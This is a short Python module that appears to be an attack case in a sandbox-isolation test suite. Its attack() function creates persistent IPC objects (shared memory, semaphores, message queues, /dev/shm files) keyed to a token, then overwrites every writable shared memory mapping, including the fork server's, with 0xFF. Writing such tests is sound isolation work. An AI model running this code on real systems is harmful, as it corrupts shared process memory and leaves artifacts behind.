"""Leave memory behind that outlives the process, and write to what the fork server shares."""

import ctypes

CLASS = "lingering"
GAINS = ("left", "write")


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    key, create = int(KNOWN["token"][:7], 16), 0o1000
    for way in (
        lambda: libc.shmget(key, 4096, create | 0o666),
        lambda: libc.semget(key, 1, create | 0o666),
        lambda: libc.msgget(key, create | 0o666),
        lambda: os.memfd_create(KNOWN["token"]),
        lambda: open(f"/dev/shm/{KNOWN['token']}", "w").close(),
        lambda: libc.mq_open(f"/{KNOWN['token']}".encode(), 0o102, 0o666, None),
    ):
        try:
            way()
        except OSError:
            pass
    with open("/proc/self/maps") as maps:
        for line in maps:
            place, rights = line.split()[:2]
            if rights[1] == "w" and rights[3] == "s":
                start, end = (int(edge, 16) for edge in place.split("-"))
                ctypes.memset(start, 0xFF, end - start)
